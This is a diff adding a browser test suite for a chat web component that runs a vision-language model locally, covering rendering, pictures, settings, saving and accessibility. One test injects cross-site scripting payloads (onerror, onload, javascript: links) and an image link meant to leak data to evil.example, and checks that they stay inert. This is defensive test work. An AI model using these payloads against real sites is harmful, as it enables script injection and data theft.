@@ -1,0 +1,463 @@
+// What a person does with a conversation, and what is made of the model's words. A stand-in for the engine answers here: what it is told
+// to say, or what it was asked. The element, the worker and the wire between them are the real ones.
+
+import assert from "node:assert/strict";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createRequire } from "node:module";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { after, before, describe, test } from "node:test";
+
+import { golden, openTab, SCREENSHOTS, start } from "./support.mjs";
+
+const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+
+const STAND_IN = `
+  export default async function init() {}
+  export class Sha256 { update() {} digestHex() { return ""; } free() {} }
+  export class Engine {
+    static async load(model, mmproj, options) {
+      const engine = new Engine();
+      engine.options = options;
+      engine.vision = mmproj ? { projector: "mlp", imageSize: 336, patchSize: 14, tokensPerImage: 576, featureSize: 8 } : null;
+      return engine;
+    }
+    static simd() { return "simd128"; }
+    info() {
+      return JSON.stringify({ name: "Stand-in", quantization: "Q4_0", contextSize: 2048, vision: this.vision,
+        device: { kind: "cpu", threads: 1 }, bytes: { weights: 1e9, kvCache: 1e8, wasmHeap: 12e8 } });
+    }
+    startChat(json, images) {
+      const request = JSON.parse(json);
+      const { content } = request.messages.at(-1);
+      const text = typeof content === "string" ? content : content.find(({ type }) => type === "text").text;
+      if (text === "too long") throw Object.assign(new Error("The prompt has 9999 tokens, the context 2048."), { code: "context_overflow" });
+      this.aborted = false;
+      const answer = text.startsWith("say:") ? text.slice(4) : text === "echo" ? "\`\`\`json\\n" + JSON.stringify({ ...request, images: images.length, options: this.options }) + "\\n\`\`\`" :
+        text === "on and on" ? "word ".repeat(2000) : "It is **" + images.length + "**, " + text.length + ".";
+      this.pieces = answer.match(/.{1,7}/gs) ?? [];
+      this.count = 0;
+    }
+    abort() { this.aborted = true; }
+    async step() {
+      await new Promise((resolve) => setTimeout(resolve, 2));
+      if (!this.aborted && this.count < this.pieces.length) return JSON.stringify({ type: "token", text: this.pieces[this.count++], token_ids: [this.count], logprobs: null });
+      return JSON.stringify({ type: "done", text: "", finish_reason: this.aborted ? "abort" : "stop", usage: {
+        prompt_tokens: 9, completion_tokens: this.count, total_tokens: 9 + this.count, image_tokens: 0, cached_tokens: 0, image_ms: 1, prefill_ms: 1,
+        decode_ms: 100, prefill_tokens_per_second: 9, decode_tokens_per_second: 12.3 } });
+    }
+    reset() {}
+    free() {}
+  }`;
+
+const VIEWS = [
+  { name: "390-light", viewport: { width: 390, height: 844 }, colorScheme: "light", hasTouch: true },
+  { name: "390-dark", viewport: { width: 390, height: 844 }, colorScheme: "dark", hasTouch: true },
+  { name: "1280-light", viewport: { width: 1280, height: 800 }, colorScheme: "light" },
+  { name: "1280-dark", viewport: { width: 1280, height: 800 }, colorScheme: "dark" },
+];
+
+const MARKDOWN = `say:### What is seen
+
+A woman in an **orange** suit, and *behind* her:
+
+1. a flag
+2. a model of the \`Space Shuttle\`
+
+| thing | colour |
+| --- | --- |
+| suit | orange |
+| helmet | white |
+
+> It is a portrait.
+
+\`\`\`
+a line of code
+\`\`\`
+
+See [NASA](https://www.nasa.gov/).`;
+
+const question = (page) => page.getByRole("textbox", { name: "Your question" });
+const answers = (page) => page.locator(".answer");
+const idle = (page) => page.getByRole("button", { name: "Ask", exact: true }).waitFor();
+
+describe("the conversation", () => {
+  let host;
+  let folder;
+  before(async () => {
+    folder = mkdtempSync(path.join(tmpdir(), "llava-web-"));
+    host = await start({ flags: ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"] });
+    mkdirSync(SCREENSHOTS, { recursive: true });
+  });
+  after(async () => {
+    await host?.close();
+    rmSync(folder, { recursive: true });
+  });
+
+  async function load(page, { vision = true } = {}) {
+    await page.evaluate(([vision]) => document.querySelector("llava-chat").load({ model: new Blob(["GGUF"]), mmproj: vision ? new Blob(["GGUF"]) : undefined }), [vision]);
+    await question(page).waitFor();
+  }
+  const visit = (name, use, options = {}) => test(name, { timeout: 120_000 }, async () => {
+    const tab = await openTab(host.browser, options);
+    tab.page.setDefaultTimeout(10_000);
+    try {
+      await tab.page.context().route("**/pkg*/llava_web.js", (route) => route.fulfill({ contentType: "text/javascript", body: STAND_IN }));
+      await tab.page.goto(host.site);
+      await load(tab.page);
+      await use(tab.page, tab);
+      assert.deepEqual(tab.complaints, []);
+      assert.deepEqual(tab.requests.filter((url) => !url.startsWith(host.server.origin) && !/^(blob|data):/.test(url)), []);
+    } finally {
+      await tab.close();
+    }
+  });
+  async function ask(page, text) {
+    await question(page).fill(text);
+    await question(page).press("Enter");
+    await idle(page);
+  }
+  async function attach(page, ...files) {
+    const chooser = page.waitForEvent("filechooser");
+    await page.getByRole("button", { name: "Picture", exact: true }).click();
+    await (await chooser).setFiles(files.map(golden));
+    await page.locator(".thumb").nth(files.length - 1).waitFor();
+  }
+  /** What the engine was sent, of a question that has it say so. */
+  async function echo(page) {
+    await ask(page, "echo");
+    return JSON.parse(await answers(page).last().locator("code").textContent());
+  }
+
+  visit("Markdown, while it is written", async (page) => {
+    await ask(page, MARKDOWN);
+    const answer = answers(page).last();
+    for (const [selector, text] of [["h3", "What is seen"], ["strong", "orange"], ["em", "behind"], ["li:nth-child(2) code", "Space Shuttle"], ["td >> nth=0", "suit"], ["blockquote", "It is a portrait."], ["pre code", "a line of code\n"]]) {
+      assert.equal((await answer.locator(selector).textContent()).trim(), text.trim(), selector);
+    }
+    const link = answer.getByRole("link", { name: "NASA" });
+    assert.deepEqual(await link.evaluate(({ href, target, rel }) => ({ href, target, rel })), { href: "https://www.nasa.gov/", target: "_blank", rel: "noopener noreferrer nofollow" });
+    // What is finished is not built anew with each word: whoever selects it keeps the selection.
+    await question(page).fill(`say:First *paragraph*.\n\n${"More words. ".repeat(60)}`);
+    await question(page).press("Enter");
+    await page.waitForFunction(() => [...document.querySelector("llava-chat").shadowRoot.querySelectorAll(".answer")].at(-1).textContent.length > 40);
+    const kept = await answers(page).last().locator(".block").first().elementHandle();
+    await idle(page);
+    assert.equal(await kept.evaluate((node) => node.isConnected && node.textContent.trim()), "First paragraph.");
+  });
+
+  visit("what the model says is never markup that acts", async (page, { requests }) => {
+    requests.length = 0;
+    for (const words of [
+      "<img src='/stolen.png' onerror='globalThis.owned = 1'>", "<script>globalThis.owned = 1</script>", "<svg onload=globalThis.owned=1></svg>",
+      "![a cat](https://evil.example/p.png?q=secret)", "[click](javascript:globalThis.owned=1)", "[mail](mailto:a@b.c) [here](#x) [data](data:text/html,x)",
+      "<style>* { display: none }</style>", "<iframe src='https://evil.example'></iframe>", "<a href='https://evil.example' onclick='globalThis.owned=1'>x</a>",
+      "<form action='https://evil.example'><input name=a></form>", "<div id=x class=shell style='position:fixed;inset:0'>over all</div>", "[x](https://ok.example 'title\"onmouseover=globalThis.owned=1')",
+      "| a |\n| --- |\n| <img src=x onerror=globalThis.owned=1> |", "``<b>``<math><mi//xlink:href='data:x,<script>globalThis.owned=1</script>'>",
+    ]) {
+      await ask(page, `say:${words}`);
+    }
+    await page.waitForTimeout(200);
+    const found = await page.evaluate(() => {
+      const all = [...document.querySelector("llava-chat").shadowRoot.querySelectorAll(".answer *")];
+      return {
+        owned: globalThis.owned ?? null,
+        tags: [...new Set(all.map(({ localName }) => localName))].filter((name) => /img|script|svg|iframe|style|form|input|math|object/.test(name)),
+        attributes: [...new Set(all.flatMap((node) => [...node.attributes].map(({ name }) => name)))].sort(),
+        addresses: all.filter((node) => node.hasAttribute("href")).map((node) => node.getAttribute("href")),
+      };
+    });
+    assert.deepEqual(found, { owned: null, tags: [], attributes: ["class", "href", "rel", "target"], addresses: ["https://ok.example"] });
+    assert.ok((await answers(page).nth(3).textContent()).includes("a cat"), "a picture stays words");
+    assert.ok((await answers(page).first().textContent()).includes("<img src="), "markup stays text");
+    assert.deepEqual(requests.filter((url) => !url.startsWith("blob:")), []);
+  });
+
+  visit("several pictures: chosen, dropped, from the camera, from an address", async (page, { complaints }) => {
+    await attach(page, "images/astronaut.jpg", "images/chelsea.png");
+    await page.getByRole("button", { name: "Take a picture with the camera" }).click();
+    await page.getByRole("button", { name: "Take the picture", exact: true }).click();
+    await page.getByText("photo.jpg").waitFor();
+    await page.getByRole("button", { name: "Picture from an address" }).click();
+    const address = page.getByRole("textbox", { name: "The picture’s address" });
+    await address.fill(`${host.server.origin}/golden/nothing.png`);
+    await address.press("Enter");
+    await page.getByRole("dialog").getByText("status 404").waitFor();
+    await address.fill(`${host.server.origin}/golden/images/images.json`);
+    await address.press("Enter");
+    await page.getByRole("dialog").getByText("could not be opened as a picture").waitFor();
+    await address.fill(`${host.server.origin}/golden/images/coffee.jpg`);
+    await address.press("Enter");
+    await page.getByText("coffee.jpg").waitFor();
+    assert.equal(await page.getByRole("dialog").count(), 0);
+    await page.getByRole("button", { name: "Remove the picture chelsea.png" }).click();
+    const request = await echo(page);
+    assert.deepEqual(request.messages.at(-1).content.map(({ type }) => type), ["image", "image", "image", "text"]);
+    assert.equal(request.images, 3);
+    assert.equal(await page.getByRole("img", { name: /The picture asked about/ }).count(), 3);
+    for (let i = 0; i < 9; i++) await page.evaluate(async (i) => document.querySelector("llava-chat").shadowRoot.querySelector("textarea").dispatchEvent(new ClipboardEvent("paste", {
+      clipboardData: await (async () => { const data = new DataTransfer(); data.items.add(new File([await (await fetch("/golden/images/plain.bmp")).blob()], `p${i}.bmp`, { type: "image/bmp" })); return data; })(),
+      bubbles: true, composed: true, cancelable: true,
+    })), i);
+    await page.getByRole("alert").getByText("8 pictures at most").waitFor();
+    // The browser's own line about the address that leads nowhere.
+    assert.deepEqual(complaints.splice(0).map((text) => text.includes("404")), [true]);
+  }, { permissions: ["camera"] });
+
+  visit("edit and send again: what came after goes, what failed comes back", async (page) => {
+    await attach(page, "images/astronaut.jpg");
+    await ask(page, "One");
+    await ask(page, "Two");
+    await ask(page, "Three");
+    await page.getByRole("button", { name: "Edit" }).nth(1).click();
+    assert.equal(await question(page).inputValue(), "Two");
+    await page.keyboard.press("Escape");
+    assert.equal(await question(page).inputValue(), "");
+    assert.equal(await answers(page).count(), 3);
+
+    await page.getByRole("button", { name: "Edit" }).nth(1).click();
+    await ask(page, "too long");
+    await page.getByRole("alert").getByText("9999 tokens").waitFor();
+    assert.deepEqual(await page.locator(".question").allTextContents(), ["One", "Two", "Three"]);
+    assert.equal(await page.evaluate(() => document.querySelector("llava-chat").messages.length), 6);
+    await question(page).fill("Two again");
+    await question(page).press("Enter");
+    await idle(page);
+    assert.deepEqual(await page.locator(".question").allTextContents(), ["One", "Two again"]);
+    let { messages } = await echo(page);
+    assert.deepEqual(messages.map(({ role }) => role), ["user", "assistant", "user", "assistant", "user"]);
+    assert.equal(messages[2].content, "Two again");
+
+    // The first one, with its picture.
+    await page.getByRole("button", { name: "Edit" }).first().click();
+    await page.locator(".thumb").getByText("astronaut.jpg").waitFor();
+    await ask(page, "One anew");
+    assert.deepEqual(await page.locator(".question").allTextContents(), ["One anew"]);
+    assert.equal(await page.getByRole("img", { name: /astronaut/ }).count(), 1);
+    ({ messages } = await echo(page));
+    assert.deepEqual(messages[0].content.map(({ type }) => type), ["image", "text"]);
+  });
+
+  visit("settings: heard by the next answer, there again after a reload, undone", async (page) => {
+    const open = () => page.getByRole("button", { name: "Settings" }).click();
+    await open();
+    const dialog = page.getByRole("dialog", { name: "Settings" });
+    await dialog.getByLabel("Instructions for every answer").fill("Be brief.");
+    await dialog.getByLabel("Temperature").fill("0.3");
+    await dialog.getByLabel("Top k").fill("7.6");
+    await dialog.getByLabel("Longest answer").fill("50");
+    await dialog.getByLabel("Min p").fill("9");
+    await dialog.getByLabel("Context").fill("1024");
+    await page.keyboard.press("Tab");
+    assert.equal(await dialog.getByLabel("Min p").inputValue(), "1");
+    await page.keyboard.press("Escape");
+    assert.equal(await page.getByRole("dialog").count(), 0);
+    const seen = (request) => [request.messages[0], request.temperature, request.top_k, request.max_tokens, request.min_p, request.seed];
+    const expected = [{ role: "system", content: "Be brief." }, 0.3, 8, 50, 1, undefined];
+    assert.deepEqual(seen(await echo(page)), expected);
+    await page.reload();
+    await load(page);
+    const request = await echo(page);
+    assert.deepEqual(seen(request), expected);
+    assert.equal(JSON.parse(request.options).contextSize, 1024);
+    await open();
+    await dialog.getByRole("button", { name: "Back to the defaults" }).click();
+    assert.equal(await dialog.getByLabel("Temperature").inputValue(), "");
+    await page.keyboard.press("Escape");
+    const plain = await echo(page);
+    assert.deepEqual([plain.temperature, plain.messages[0].role], [undefined, "user"]);
+    assert.equal(await page.evaluate(() => localStorage.length), 0);
+  });
+
+  visit("kept on wish: there again after a reload with its pictures, gone when it is no longer wished", async (page) => {
+    await attach(page, "images/astronaut.jpg", "images/coffee.jpg");
+    await ask(page, MARKDOWN);
+    await page.reload();
+    await load(page);
+    assert.equal(await answers(page).count(), 0, "nothing is kept that was not asked to be");
+    const keep = async (wish) => {
+      await page.getByRole("button", { name: "Settings" }).click();
+      await page.getByLabel(/Keep the conversation/).setChecked(wish);
+      await page.keyboard.press("Escape");
+    };
+    await keep(true);
+    await attach(page, "images/astronaut.jpg", "images/coffee.jpg");
+    await ask(page, MARKDOWN);
+    await ask(page, "And then?");
+    await page.reload();
+    await load(page);
+    await answers(page).nth(1).waitFor();
+    assert.equal(await answers(page).first().locator("td").count(), 4);
+    assert.equal(await page.getByRole("img", { name: /astronaut|coffee/ }).count(), 2);
+    const { messages, images } = await echo(page);
+    assert.deepEqual([messages.length, messages[0].content.length, images], [5, 3, 2]);
+    // A model that cannot see leaves it where it is.
+    await page.reload();
+    await load(page, { vision: false });
+    await page.getByText("which this model cannot see").waitFor();
+    await page.reload();
+    await load(page);
+    await answers(page).nth(2).waitFor();
+    await page.getByRole("button", { name: "New conversation" }).click();
+    await page.reload();
+    await load(page);
+    await page.waitForTimeout(200);
+    assert.equal(await answers(page).count(), 0);
+    await ask(page, "Hello");
+    await keep(false);
+    await page.reload();
+    await load(page);
+    await page.waitForTimeout(200);
+    assert.equal(await answers(page).count(), 0);
+  });
+
+  visit("saved as Markdown and as JSON that can be sent again", async (page) => {
+    await attach(page, "images/chelsea.png");
+    await ask(page, "Which animal?");
+    const save = async (format) => {
+      await page.getByRole("button", { name: "Save the conversation" }).click();
+      const download = page.waitForEvent("download");
+      await page.getByRole("button", { name: format, exact: true }).click();
+      const file = await download;
+      return [file.suggestedFilename(), readFileSync(await file.path(), "utf8")];
+    };
+    assert.deepEqual(await save("Markdown"), ["conversation.md", "# Conversation with Stand-in\n\n## Which animal?\n\nPicture: chelsea.png\n\nIt is **1**, 13.\n"]);
+    const [name, text] = await save("JSON");
+    assert.equal(name, "conversation.json");
+    const { messages } = JSON.parse(text);
+    assert.deepEqual(messages.map(({ role }) => role), ["user", "assistant"]);
+    const [image] = messages[0].content;
+    assert.ok(Buffer.from(image.image_url.url.split(",")[1], "base64").equals(readFileSync(golden("images/chelsea.png"))));
+    const again = await page.evaluate(async (messages) => (await document.querySelector("llava-chat").engine.chat.completions.create({ messages: messages.slice(0, 1) })).choices[0].message.content, messages);
+    assert.equal(again, "It is **1**, 13.");
+  });
+
+  visit("example questions, by keyboard; stop keeps what was said", async (page) => {
+    await attach(page, "images/astronaut.jpg");
+    await page.getByRole("button", { name: "Describe this picture." }).focus();
+    await page.keyboard.press("Enter");
+    await idle(page);
+    assert.equal(await page.locator(".question").textContent(), "Describe this picture.");
+    await question(page).fill("on and on");
+    await question(page).press("Enter");
+    await page.waitForFunction(() => [...document.querySelector("llava-chat").shadowRoot.querySelectorAll(".answer")].at(-1).textContent.length > 30);
+    await page.getByRole("button", { name: "Stop" }).click();
+    await idle(page);
+    assert.ok((await answers(page).last().textContent()).length > 30);
+    await page.getByText("Stopped").first().waitFor();
+    await page.getByText("12.3 tokens/s").waitFor();
+  });
+
+  visit("many pictures: described one after another, stopped, gone on with, saved", async (page) => {
+    const names = ["b.jpg", "a.jpg", "broken.png", "notes.txt"];
+    for (const [name, from] of [["b.jpg", "astronaut.jpg"], ["a.jpg", "coffee.jpg"]]) writeFileSync(path.join(folder, name), readFileSync(golden(`images/${from}`)));
+    writeFileSync(path.join(folder, "broken.png"), "no picture");
+    writeFileSync(path.join(folder, "notes.txt"), "text");
+    await page.getByRole("button", { name: "Describe a whole folder of pictures" }).click();
+    const choose = async (files, button = "Choose pictures") => {
+      const chooser = page.waitForEvent("filechooser");
+      await page.getByRole("button", { name: button, exact: true }).click();
+      await (await chooser).setFiles(files);
+    };
+    await choose([path.join(folder, "notes.txt")]);
+    await page.getByRole("alert").getByText("no picture among these").waitFor();
+    await choose(folder, "Choose a folder");
+    const rows = page.getByRole("list", { name: "Pictures" }).getByRole("listitem");
+    await rows.nth(2).waitFor();
+    assert.equal(names.length, 4);
+    assert.equal(await rows.count(), 3);
+    await page.getByRole("textbox", { name: "What is asked about each" }).fill('say:A "cup", and,\nmore');
+    await page.getByRole("button", { name: "Describe them" }).click();
+    await page.getByText("2 of 3 described").waitFor();
+    await rows.filter({ hasText: "broken.png" }).getByText(/Failed: .*could not be opened/).waitFor();
+    const save = async (format) => {
+      const download = page.waitForEvent("download");
+      await page.getByRole("button", { name: format }).click();
+      return readFileSync(await (await download).path(), "utf8");
+    };
+    const base = path.basename(folder);
+    assert.equal(await save("Save as CSV"), `\ufeff"file","alt"\r\n"${base}/a.jpg","A ""cup"", and, more"\r\n"${base}/b.jpg","A ""cup"", and, more"\r\n`);
+    assert.deepEqual(JSON.parse(await save("Save as JSON")), ["a.jpg", "b.jpg"].map((name) => ({ file: `${base}/${name}`, alt: 'A "cup", and, more' })));
+    // A long one, stopped midway: it is asked again.
+    await choose([golden("images/chelsea.png")]);
+    await page.getByRole("textbox", { name: "What is asked about each" }).fill("on and on");
+    await page.getByRole("button", { name: "Go on" }).click();
+    await rows.filter({ hasText: "chelsea.png" }).getByText("Looking at it").waitFor();
+    await page.getByRole("button", { name: "Stop" }).click();
+    await rows.filter({ hasText: "chelsea.png" }).getByText("Waiting").waitFor();
+    await page.getByRole("textbox", { name: "What is asked about each" }).fill("say:A cat.");
+    await page.getByRole("button", { name: "Go on" }).click();
+    await page.getByText("3 of 4 described").waitFor();
+    await page.getByRole("button", { name: "Back to the chat" }).click();
+    await question(page).waitFor();
+  });
+
+  test("models to choose from: how large, whether they fit, whether they are kept", { timeout: 60_000 }, async () => {
+    const tab = await openTab(host.browser);
+    const { page } = tab;
+    page.setDefaultTimeout(10_000);
+    await page.context().route("**/pkg*/llava_web.js", (route) => route.fulfill({ contentType: "text/javascript", body: STAND_IN }));
+    await page.goto(host.site);
+    await page.evaluate((origin) => {
+      document.querySelector("llava-chat").models = [
+        { name: "Tiny", description: "For a first try", model: `${origin}/golden/tiny-llava/tiny-llava-f16.gguf`, mmproj: `${origin}/golden/tiny-llava/mmproj-legacy-f16.gguf`, bytes: 7e6 },
+        { name: "Huge", model: "hf:owner/repo/huge.gguf", bytes: 5e9 },
+      ];
+    }, host.server.origin);
+    const offered = page.getByRole("region", { name: "Models to begin with" });
+    assert.match(await offered.getByRole("listitem").filter({ hasText: "Tiny" }).textContent(), /7 MB · fits this device · For a first try/);
+    assert.match(await offered.getByRole("listitem").filter({ hasText: "Huge" }).textContent(), /5 GB · too large without WebGPU/);
+    await offered.getByRole("button", { name: "Choose Tiny" }).click();
+    assert.match(await page.getByRole("textbox", { name: "Language model" }).inputValue(), /tiny-llava-f16\.gguf$/);
+    assert.match(await page.getByRole("textbox", { name: "Vision file" }).inputValue(), /mmproj-legacy-f16\.gguf$/);
+    await tab.close();
+  });
+
+  for (const { name, ...options } of VIEWS) {
+    visit(`at ${name}: nothing overflows, no accessibility rule is broken; screenshots`, async (page) => {
+      const check = async (state) => {
+        await page.screenshot({ path: path.join(SCREENSHOTS, `${name}-${state}.png`) });
+        const found = await page.evaluate(async (axe) => {
+          globalThis.axe ?? Function(axe)();
+          const { violations } = await globalThis.axe.run(document);
+          const root = document.querySelector("llava-chat").shadowRoot;
+          return {
+            violations: violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target} ${failureSummary}`).join("; ")}`),
+            small: [...root.querySelectorAll("button, input:not(.visually-hidden, [type=checkbox]), textarea, select")].filter((node) => node.checkVisibility())
+              .map((node) => ({ node: node.className, ...node.getBoundingClientRect().toJSON() })).filter(({ width, height }) => Math.min(width, height) < 40),
+            outside: [...root.querySelectorAll("*")].filter((node) => node.checkVisibility() && !node.closest(".visually-hidden, select, svg, pre, table"))
+              .filter((node) => node.getBoundingClientRect().right > innerWidth + 1 || node.getBoundingClientRect().left < -1).map((node) => node.className),
+            overflow: document.documentElement.scrollWidth - innerWidth,
+          };
+        }, axe);
+        assert.deepEqual(found, { violations: [], small: [], outside: [], overflow: 0 }, state);
+      };
+      await attach(page, "images/astronaut.jpg", "images/chelsea.png", "images/coffee.jpg");
+      await check("10-several");
+      await page.getByRole("button", { name: "Remove the picture chelsea.png" }).click();
+      await page.getByRole("button", { name: "Remove the picture coffee.jpg" }).click();
+      await ask(page, MARKDOWN);
+      await page.locator(".log").evaluate((log) => log.scrollTo(0, 0));
+      await check("11-markdown");
+      await page.getByRole("button", { name: "Edit" }).click();
+      await question(page).fill("What colour is the suit?");
+      await check("12-edit");
+      await page.getByRole("button", { name: "Cancel" }).click();
+      await page.getByRole("button", { name: "Settings" }).click();
+      await check("13-settings");
+      await page.keyboard.press("Escape");
+      await page.getByRole("button", { name: "Save the conversation" }).click();
+      await check("14-save");
+      await page.keyboard.press("Escape");
+      await page.getByRole("button", { name: "New conversation" }).click();
+      await page.getByRole("button", { name: "Describe a whole folder of pictures" }).click();
+      const chooser = page.waitForEvent("filechooser");
+      await page.getByRole("button", { name: "Choose pictures" }).click();
+      await (await chooser).setFiles(["images/astronaut.jpg", "images/chelsea.png", "images/coffee.jpg"].map(golden));
+      await page.getByRole("textbox", { name: "What is asked about each" }).fill("say:An astronaut in an orange suit smiles at the camera.");
+      await page.getByRole("button", { name: "Describe them" }).click();
+      await page.getByText("3 of 3 described").waitFor();
+      await check("15-alt-texts");
+    }, options);
+  }
+});
